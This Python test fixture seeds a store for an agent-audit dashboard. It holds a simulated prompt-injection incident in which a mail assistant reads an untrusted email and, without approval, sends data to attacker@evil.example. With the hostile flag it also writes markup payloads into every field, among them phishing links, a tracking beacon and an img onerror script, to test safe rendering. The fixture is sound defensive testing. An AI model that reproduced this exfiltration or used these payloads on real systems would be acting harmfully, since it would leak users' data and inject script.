"""Seed a store with the demo injection incident and benign traffic (tests, e2e, docs).

The spans go through the real write path (normalise -> Arrow -> insert) via
:class:`~agentaudit.collector.writer.writer.Writer`. Run as a script to seed a store directory:
``python -m tests.dashboards.seed_store chdb:///tmp/store`` (from the repository root);
``--hostile`` adds :func:`hostile_incident` and the hostile quarantine and revocation
rows of :func:`seed_hostile` (the safe-rendering tests); ``--findings`` adds the
detector's rows of :func:`seed_findings` (findings, a triage version, a baseline), and
with ``--hostile`` also :func:`seed_hostile_findings`. Without the flags the store
holds what it always did, so the tests that do not ask for findings see none.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import sys
import time
from typing import Any

from agentaudit.collector.model import SpanRecord
from agentaudit.collector.writer.writer import Writer
from agentaudit.detector.model import Finding
from agentaudit.schema import attributes as A
from agentaudit.store import Store
from agentaudit.store.migrations import apply_migrations

DEMO_SESSION = "sess-demo-injection"
DEMO_AGENT = "mail-assistant"
DEMO_USER = "alice@example.com"
DEMO_TRACE = "0af7651916cd43dd8448eb211c80319c"
DEMO_EMAIL = "email:msg-42"
DEMO_CREDENTIAL = "cred-mail-7f3a"
SECOND = 1_000_000_000

# Markup a hostile agent puts in every text field of its spans: emphasis, a disguised
# link, a tracking image, HTML, Streamlit's colour directive, LaTeX, emoji, a material
# icon and the Streamlit logo shortcode, a bare URL and e-mail address (autolinked),
# a typographic arrow, backticks, and newlines that start a table and a heading.
EVIL_HOST = "evil.example"
HOSTILE_MARKUP = (
    "**bold** [click](https://evil.example/phish) ![x](https://evil.example/beacon.png) "
    "<img src=https://evil.example/html.png onerror=alert(1)> :red[red] $\\LaTeX$ "
    ":smile: :material/home: :streamlit: https://evil.example/bare x@evil.example "
    "a -> b `tick` ``two``\n| a | b |\n|---|---|\n# Owned"
)


def hostile(field: str) -> str:
    """The value a hostile agent records in ``field``: its name, then the markup."""
    return f"{field} {HOSTILE_MARKUP}"


HOSTILE_AGENT = hostile("agent")
HOSTILE_SESSION = hostile("session")
HOSTILE_TRACE = "6e1f0c0ffee0ddba11deadbeefcafe01"
HOSTILE_TOOL = hostile("tool")
HOSTILE_OLD_TOOL = hostile("old-tool")

# The detector's rows of --findings (the Findings page, the Overview panel, the Agent
# profile's baseline).
DEMO_FINDING = "f-demo-exfil"
ACKED_FINDING = "f-calendar-acked"
LOW_FINDING = "f-research-new-domain"
HOSTILE_FINDING = "f-hostile"
DEMO_SUMMARY = (
    "mail-assistant called send_email for attacker@evil.example, a recipient domain it "
    "never used in 30 days; the call followed untrusted content from email:msg-42 and no "
    "human approved it."
)


def _hash(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def _span_id(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:16]


def _trace_id(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:32]


def _context(agent: str, user: str, session: str) -> dict[str, Any]:
    return {
        A.GEN_AI_AGENT_ID: agent,
        A.GEN_AI_AGENT_NAME: agent,
        A.ENDUSER_ID: user,
        A.SESSION_ID: session,
        A.FRAMEWORK: "function",
    }


def chat_span(
    *,
    trace: str,
    name: str,
    start_ns: int,
    agent: str,
    user: str,
    session: str,
    prompt_hash: str,
    sources: list[tuple[str, str, str]],
    model: str = "gpt-4o",
) -> SpanRecord:
    attrs = _context(agent, user, session)
    attrs.update(
        {
            A.GEN_AI_OPERATION_NAME: A.OPERATION_CHAT,
            A.GEN_AI_REQUEST_MODEL: model,
            A.PROMPT_HASH: prompt_hash,
            A.SOURCE_REFS: [s[0] for s in sources],
            A.SOURCE_KINDS: [s[1] for s in sources],
            A.SOURCE_TRUST: [s[2] for s in sources],
            A.SOURCE_HASHES: [_hash(s[0]) for s in sources],
        }
    )
    return SpanRecord(
        trace_id=trace,
        span_id=_span_id(name),
        name=f"chat {model}",
        start_ns=start_ns,
        end_ns=start_ns + SECOND,
        kind="Client",
        attributes=attrs,
        resource_attributes={A.SERVICE_NAME: agent},
    )


def tool_span(
    *,
    trace: str,
    name: str,
    start_ns: int,
    agent: str,
    user: str,
    session: str,
    tool: str,
    arguments: dict[str, Any],
    prompt_hash: str,
    sources: list[tuple[str, str, str]],
    resources: list[str],
    credential: str,
    scopes: list[str],
    expires_at: int,
    approval: str = A.APPROVAL_NONE,
    approver: str = "",
    error: str = "",
) -> SpanRecord:
    attrs = _context(agent, user, session)
    attrs.update(
        {
            A.GEN_AI_OPERATION_NAME: A.OPERATION_EXECUTE_TOOL,
            A.GEN_AI_TOOL_NAME: tool,
            A.GEN_AI_TOOL_CALL_ID: f"call_{name}",
            A.GEN_AI_TOOL_TYPE: "function",
            A.GEN_AI_TOOL_CALL_ARGUMENTS: json.dumps(arguments),
            A.ARGUMENTS_HASH: _hash(json.dumps(arguments, sort_keys=True)),
            A.RESULT_HASH: _hash(f"result of {name}"),
            A.PROMPT_HASH: prompt_hash,
            A.SOURCE_REFS: [s[0] for s in sources],
            A.SOURCE_KINDS: [s[1] for s in sources],
            A.SOURCE_TRUST: [s[2] for s in sources],
            A.SOURCE_HASHES: [_hash(s[0]) for s in sources],
            A.RESOURCE_IDS: resources,
            A.APPROVAL_STATUS: approval,
            A.CREDENTIAL_ID: credential,
            A.CREDENTIAL_SCOPES: scopes,
            A.CREDENTIAL_EXPIRES_AT: expires_at,
        }
    )
    if approver:
        attrs[A.APPROVAL_APPROVER] = approver
    if error:
        attrs[A.ERROR_TYPE] = error
    return SpanRecord(
        trace_id=trace,
        span_id=_span_id(name),
        name=f"{A.TOOL_SPAN_PREFIX}{tool}",
        start_ns=start_ns,
        end_ns=start_ns + SECOND // 4,
        status_code="Error" if error else "Unset",
        attributes=attrs,
        resource_attributes={A.SERVICE_NAME: agent},
    )


def demo_incident(now_ns: int) -> list[SpanRecord]:
    """read_inbox -> chat (prompted by email:msg-42) -> send_email, unapproved."""
    t0 = now_ns - 3600 * SECOND
    common = {"trace": DEMO_TRACE, "agent": DEMO_AGENT, "user": DEMO_USER, "session": DEMO_SESSION}
    expires = now_ns // SECOND + 3600
    scopes = ["email.read", "email.send", "contacts.read"]
    user_turn = ("user:alice#turn-1", "user", A.TRUST_USER)
    p1, p2 = _hash("prompt-1"), _hash("prompt-2")
    injected = [
        user_turn,
        ("tool:read_inbox#call_1", "tool_result", A.TRUST_UNTRUSTED),
        (DEMO_EMAIL, "email", A.TRUST_UNTRUSTED),
    ]
    return [
        chat_span(name="demo-chat-1", start_ns=t0, prompt_hash=p1, sources=[user_turn], **common),
        tool_span(
            name="demo-read-inbox",
            start_ns=t0 + 2 * SECOND,
            tool="read_inbox",
            arguments={"folder": "INBOX", "limit": 10},
            prompt_hash=p1,
            sources=[user_turn],
            resources=["email:inbox/alice"],
            credential=DEMO_CREDENTIAL,
            scopes=scopes,
            expires_at=expires,
            **common,
        ),
        chat_span(
            name="demo-chat-2", start_ns=t0 + 4 * SECOND, prompt_hash=p2, sources=injected, **common
        ),
        tool_span(
            name="demo-send-email",
            start_ns=t0 + 6 * SECOND,
            tool="send_email",
            arguments={
                "to": "attacker@evil.example",
                "subject": "Q3 numbers",
                "body": "[REDACTED:email]",
            },
            prompt_hash=p2,
            sources=injected,
            resources=["email:outbound/attacker@evil.example"],
            credential=DEMO_CREDENTIAL,
            scopes=scopes,
            expires_at=expires,
            **common,
        ),
    ]


def benign_sessions(now_ns: int, count: int = 6) -> list[SpanRecord]:
    """Approved calendar and research work, spread over the last day."""
    spans: list[SpanRecord] = []
    for i in range(count):
        start = now_ns - (2 + 3 * i) * 3600 * SECOND
        if i % 2 == 0:
            agent, user, tool, resource = (
                "calendar-bot",
                "bob@example.com",
                "create_event",
                f"calendar:evt-{i}",
            )
            scopes, approval, approver = (
                ["calendar.read", "calendar.write"],
                A.APPROVAL_HUMAN,
                "bob@example.com",
            )
            sources = [(f"user:bob#turn-{i}", "user", A.TRUST_USER)]
        else:
            agent, user, tool, resource = (
                "research-agent",
                "carol@example.com",
                "web_search",
                f"url:https://example.org/{i}",
            )
            scopes, approval, approver = ["web.search"], A.APPROVAL_POLICY, "policy:allow-search"
            sources = [
                (f"user:carol#turn-{i}", "user", A.TRUST_USER),
                (f"url:https://news.example/{i}", "web", A.TRUST_UNTRUSTED),
            ]
        session, trace, prompt = f"sess-benign-{i}", _trace_id(f"benign-{i}"), _hash(f"benign-{i}")
        common = {"trace": trace, "agent": agent, "user": user, "session": session}
        spans.append(
            chat_span(
                name=f"benign-chat-{i}",
                start_ns=start,
                prompt_hash=prompt,
                sources=sources,
                **common,
            )
        )
        for j in range(3):
            spans.append(
                tool_span(
                    name=f"benign-{i}-{j}",
                    start_ns=start + (1 + j) * SECOND,
                    tool=tool,
                    arguments={"n": j, "title": f"task {i}"},
                    prompt_hash=prompt,
                    sources=sources,
                    resources=[resource],
                    credential=f"cred-{agent}-{i}",
                    scopes=scopes,
                    expires_at=now_ns // SECOND + 7200,
                    approval=approval,
                    approver=approver,
                    error="TimeoutError" if (i, j) == (1, 2) else "",
                    **common,
                )
            )
    return spans


def hostile_incident(now_ns: int) -> list[SpanRecord]:
    """A session where every text field holds :data:`HOSTILE_MARKUP`.

    A model call prompted by untrusted content, then an unapproved, failed tool call
    (so it is on the Overview's "no human asked for this" list); three days earlier
    the same agent used another tool (its baseline, so the Agent profile flags the
    new one). Trace and span ids stay hex, as OTLP makes them.
    """
    t0 = now_ns - 1800 * SECOND
    common = {"agent": HOSTILE_AGENT, "user": hostile("user"), "session": HOSTILE_SESSION}
    prompt = hostile("prompt-hash")
    sources = [(hostile("source-ref"), hostile("source-kind"), A.TRUST_UNTRUSTED)]
    tool_fields: dict[str, Any] = {
        "prompt_hash": prompt,
        "sources": sources,
        "resources": [hostile("resource")],
        "credential": hostile("credential"),
        "scopes": [hostile("scope")],
        "expires_at": now_ns // SECOND + 3600,
        "approver": hostile("approver"),
        "error": hostile("error-type"),
    }
    return [
        chat_span(
            trace=HOSTILE_TRACE,
            name="hostile-chat",
            start_ns=t0,
            prompt_hash=prompt,
            sources=sources,
            model=hostile("model"),
            **common,
        ),
        tool_span(
            trace=HOSTILE_TRACE,
            name="hostile-tool",
            start_ns=t0 + 2 * SECOND,
            tool=HOSTILE_TOOL,
            arguments={"to": hostile("argument"), hostile("argument-key"): 1},
            **tool_fields,
            **common,
        ),
        tool_span(
            trace=_trace_id("hostile-baseline"),
            name="hostile-baseline",
            start_ns=now_ns - 3 * 86400 * SECOND,
            tool=HOSTILE_OLD_TOOL,
            arguments={"n": 0},
            **tool_fields,
            **common,
        ),
    ]


def seed_hostile(store: Store, now_ns: int | None = None) -> None:
    """Write :func:`hostile_incident`, a hostile quarantine row and revocation row.

    The last two stand for what the admin API records (it quotes the agent's ids and
    the backends' answers); they are inserted with server-side parameters.
    """
    now_ns = time.time_ns() if now_ns is None else now_ns
    writer = Writer(store)
    for span in hostile_incident(now_ns):  # received as an honest agent's are, as seed's
        writer.enqueue([span], received_ns=min(span.end_ns + SECOND // 2, now_ns))
    writer.flush()
    store.command(
        "INSERT INTO agentaudit.quarantine (agent_id, updated_at, state, since, reason, actor, "
        "revocation_id) VALUES ({agent:String}, now64(6), 'quarantined', now64(6), "
        "{reason:String}, {actor:String}, {rev:String})",
        {
            "agent": HOSTILE_AGENT,
            "reason": hostile("quarantine-reason"),
            "actor": hostile("actor"),
            "rev": hostile("revocation-id"),
        },
    )
    store.command(
        "INSERT INTO agentaudit.revocations (id, requested_at, updated_at, target, target_id, "
        "reason, requested_by, status, results) VALUES ({rev:String}, now64(3), now64(3), "
        "'agent', {agent:String}, {reason:String}, {who:String}, 'partial', "
        "map('webhook', {webhook:String}, {backend:String}, {raw:String}))",
        {
            "rev": hostile("revocation-id"),
            "agent": HOSTILE_AGENT,
            "reason": hostile("revocation-reason"),
            "who": hostile("requested-by"),
            "webhook": json.dumps({"ok": False, "attempts": 3, "detail": hostile("detail")}),
            "backend": hostile("backend"),
            "raw": hostile("raw-result"),
        },
    )


_FINDING_COLUMNS = (
    "finding_id", "agent_id", "user_id", "session_id", "trace_id", "span_id", "tool_name",
    "rule", "severity", "summary", "evidence", "action", "revocation_id", "group_key", "state",
    "triaged_by", "triage_reason",
)  # fmt: skip
_INSERT_FINDING = (
    "INSERT INTO agentaudit.findings (ts, updated_at, score, "  # noqa: S608 - fixed names
    + ", ".join(_FINDING_COLUMNS)
    + ") VALUES (fromUnixTimestamp64Nano({ts:Int64}), fromUnixTimestamp64Nano({up:Int64}), "
    "{score:Float64}, " + ", ".join(f"{{{c}:String}}" for c in _FINDING_COLUMNS) + ")"
)


def insert_finding(
    store: Store,
    finding: Finding,
    *,
    updated_ns: int | None = None,
    triaged_by: str = "",
    triage_reason: str = "",
) -> None:
    """Write one version row of ``finding`` the way the detector stores it."""
    values = {
        **{name: str(getattr(finding, name, "")) for name in _FINDING_COLUMNS},
        "evidence": finding.evidence_json(),
        "triaged_by": triaged_by,
        "triage_reason": triage_reason,
    }
    store.command(
        _INSERT_FINDING,
        {
            "ts": finding.ts_ns,
            "up": finding.ts_ns if updated_ns is None else updated_ns,
            "score": finding.score,
            **values,
        },
    )


def insert_baseline(store: Store, agent: str, baseline: dict[str, Any], *, updated_ns: int) -> None:
    """Write one version of an agent's detector baseline."""
    store.command(
        "INSERT INTO agentaudit.detector_baselines (agent_id, updated_at, watermark, baseline) "
        "VALUES ({agent:String}, fromUnixTimestamp64Nano({up:Int64}), {up:Int64}, {b:String})",
        {"agent": agent, "up": updated_ns, "b": json.dumps(baseline)},
    )


def _items(counts: dict[str, int], days: int = 20) -> dict[str, Any]:
    """Counted items as the detector saves them (``Items.to_json``)."""
    return {
        "total": sum(counts.values()),
        "dropped": 0,
        "items": {
            name: {"n": n, "first": "2026-10-28", "last": "2026-11-26", "days": days}
            for name, n in counts.items()
        },
    }


def demo_baseline(now_ns: int) -> dict[str, Any]:
    """What the detector learned about the mail assistant over 30 days
    (``Baseline.to_json``: the keys of migration 0015)."""
    hours = {f"{h:02d}": (60 if 8 <= h < 18 else 2) for h in range(24)}
    return {
        "format": 2,
        "agent": DEMO_AGENT,
        "calls": 1240,
        "first_ts": now_ns - 31 * 86400 * SECOND,
        "last_ts": now_ns - 2 * 86400 * SECOND,
        "watermark": now_ns - 2 * 86400 * SECOND,
        "learning": {
            "active": False,
            "completed_ts": now_ns - 24 * 86400 * SECOND,
            "span_days": 29.0,
        },
        "tools": _items({"read_inbox": 820, "send_email": 400, "search_contacts": 20}),
        "transitions": _items(
            {
                "read_inbox -> read_inbox": 410,
                "read_inbox -> send_email": 390,
                "send_email -> read_inbox": 12,
            }
        ),
        "resources_per_tool": {
            "read_inbox": {
                "calls": 820,
                "types": _items({"email": 820}),
                "realms": _items({}),
                "resources": _items({"email:inbox/alice": 820}),
            },
            "send_email": {
                "calls": 400,
                "types": _items({"email": 400}),
                "realms": _items({"@example.com": 400}),
                "resources": _items({"email:outbound/bob@example.com": 400}),
            },
        },
        "fanout": {
            "read_inbox": {"session_max": 1, "window_max": 1, "daily": {}},
            "send_email": {"session_max": 3, "window_max": 9, "daily": {"2026-11-26": [3, 9]}},
        },
        "cadence": {
            "minute_max": 6,
            "minutes": 900,
            "histogram": {"1": 700, "2": 150, "4": 50},
            "daily": {"2026-11-26": [6]},
        },
        "hours": _items(hours),
        "scopes": _items({"email.read": 820, "email.send": 400, "contacts.read": 20}),
        "provenance": {"send_email": _items({"approval:human": 388, "untrusted": 12})},
        "approvals": {"send_email": _items({"*": 400, "@company.example": 400})},
        "argument_keys": {"send_email": _items({"body": 400, "subject": 400, "to": 400})},
        "reference": {"taken_ns": now_ns - 7 * 86400 * SECOND, "tools": ["read_inbox"]},
    }


def seed_findings(store: Store, now_ns: int | None = None) -> None:
    """The detector's rows for the demo: an open high finding on the injection (its
    evidence names the triggering call), a medium one already acknowledged (two version
    rows), a low open one, and the mail assistant's baseline (two versions: the newest
    wins) plus a baseline still learning for the research agent."""
    now_ns = time.time_ns() if now_ns is None else now_ns
    send = demo_incident(now_ns)[-1]
    insert_finding(
        store,
        Finding(
            finding_id=DEMO_FINDING,
            ts_ns=send.start_ns + 2 * SECOND,
            agent_id=DEMO_AGENT,
            user_id=DEMO_USER,
            session_id=DEMO_SESSION,
            trace_id=DEMO_TRACE,
            span_id=send.span_id,
            tool_name="send_email",
            rule="new_resource",
            severity="high",
            score=0.93,
            summary=DEMO_SUMMARY,
            evidence={  # the detector's shape (detector/engine.py)
                "rule": "new_resource",
                "observed": {"recipient_domain": "evil.example", "recipients": 1},
                "baseline": {"recipient_domains": ["example.com"], "days": 30},
                "calls": 1,
                "triggering_calls": [
                    {"trace_id": DEMO_TRACE, "span_id": send.span_id, "tool": "send_email"}
                ],
                "untrusted_sources": [DEMO_EMAIL],
                "approvals": {"none": 1},
                "learning": False,
            },
            action="alert",
        ),
    )
    acked = Finding(
        finding_id=ACKED_FINDING,
        ts_ns=now_ns - 5 * 3600 * SECOND,
        agent_id="calendar-bot",
        rule="off_hours",
        severity="medium",
        score=0.5,
        summary="calendar-bot worked at 05:00 UTC; in 30 days it never worked before 08:00.",
        evidence={"observed": {"hour": 5}, "baseline": {"hours": [8, 18]}},
    )
    insert_finding(store, acked)
    insert_finding(
        store,
        dataclasses.replace(acked, state="acknowledged"),
        updated_ns=now_ns - 4 * 3600 * SECOND,
        triaged_by="rita",
        triage_reason="maintenance window",
    )
    insert_finding(
        store,
        Finding(
            finding_id=LOW_FINDING,
            ts_ns=now_ns - 7 * 3600 * SECOND,
            agent_id="research-agent",
            rule="new_resource_type",
            severity="low",
            score=0.2,
            summary="research-agent searched news.example for the first time.",
            evidence={"observed": {"domain": "news.example"}},
        ),
    )
    insert_baseline(
        store,
        DEMO_AGENT,
        {**demo_baseline(now_ns), "calls": 1000, "tools": _items({"read_inbox": 1000})},
        updated_ns=now_ns - 3 * 86400 * SECOND,
    )
    insert_baseline(store, DEMO_AGENT, demo_baseline(now_ns), updated_ns=now_ns - 86400 * SECOND)
    insert_baseline(
        store,
        "research-agent",
        {
            "calls": 12,
            "first_ts": now_ns - 3 * 3600 * SECOND,
            "last_ts": now_ns - 3600 * SECOND,
            "learning": {"active": True, "completed_ts": 0, "span_days": 0.083},
            "tools": _items({"web_search": 12}),
        },
        updated_ns=now_ns - 3600 * SECOND,
    )


def seed_hostile_findings(store: Store, now_ns: int | None = None) -> None:
    """A finding whose every text field, and its evidence, holds :data:`HOSTILE_MARKUP`,
    and a hostile baseline of the hostile agent."""
    now_ns = time.time_ns() if now_ns is None else now_ns
    tool = hostile_incident(now_ns)[1]
    insert_finding(
        store,
        Finding(
            finding_id=HOSTILE_FINDING,
            ts_ns=tool.start_ns + SECOND,
            agent_id=HOSTILE_AGENT,
            user_id=hostile("user"),
            session_id=HOSTILE_SESSION,
            trace_id=HOSTILE_TRACE,
            span_id=tool.span_id,
            tool_name=HOSTILE_TOOL,
            rule=hostile("rule"),
            severity="critical",
            score=1.0,
            summary=hostile("summary"),
            evidence={
                hostile("evidence-key"): hostile("evidence-value"),
                "triggering_calls": [
                    {"trace_id": HOSTILE_TRACE, "span_id": tool.span_id, "tool": HOSTILE_TOOL}
                ],
            },
            action="quarantine",
            revocation_id=hostile("finding-revocation"),
            group_key=hostile("group"),
        ),
        triaged_by=hostile("triaged-by"),
        triage_reason=hostile("triage-reason"),
    )
    insert_baseline(
        store,
        HOSTILE_AGENT,
        {
            "calls": 3,
            "first_ts": hostile("first-ts"),
            "learning": {"active": True, hostile("learning-key"): hostile("learning-value")},
            "tools": _items({HOSTILE_OLD_TOOL: 3}),
            "transitions": _items({f"{HOSTILE_OLD_TOOL} -> {hostile('next-tool')}": 2}),
            "resources_per_tool": {
                HOSTILE_OLD_TOOL: {
                    "calls": 3,
                    "types": _items({hostile("resource-type"): 3}),
                    "realms": _items({hostile("realm"): 3}),
                }
            },
            "fanout": {HOSTILE_OLD_TOOL: {"session_max": 1, hostile("fanout-figure"): 2}},
            "cadence": {"minute_max": 2, hostile("cadence-figure"): 2},
            "hours": _items({"03": 3}),
            "scopes": _items({hostile("scope"): 3}),
            "argument_keys": {HOSTILE_OLD_TOOL: _items({hostile("argument-key"): 3})},
            hostile("extra-key"): hostile("extra-value"),
        },
        updated_ns=now_ns - 3600 * SECOND,
    )


def seed(
    store: Store,
    now_ns: int | None = None,
    *,
    hostile_rows: bool = False,
    findings: bool = False,
) -> None:
    """Apply migrations and write the demo incident plus benign sessions.

    With ``hostile_rows``, also :func:`seed_hostile` (the safe-rendering tests); with
    ``findings``, :func:`seed_findings` (and :func:`seed_hostile_findings` when both).
    """
    now_ns = time.time_ns() if now_ns is None else now_ns
    apply_migrations(store)
    writer = Writer(store)
    for span in demo_incident(now_ns) + benign_sessions(now_ns):
        # Received as an honest agent's span is: shortly after it ended.
        writer.enqueue([span], received_ns=min(span.end_ns + SECOND // 2, now_ns))
    writer.flush()
    if hostile_rows:
        seed_hostile(store, now_ns)
    if findings:
        seed_findings(store, now_ns)
        if hostile_rows:
            seed_hostile_findings(store, now_ns)


if __name__ == "__main__":
    with Store.open(sys.argv[1]) as target:
        flags = sys.argv[2:]
        seed(target, hostile_rows="--hostile" in flags, findings="--findings" in flags)
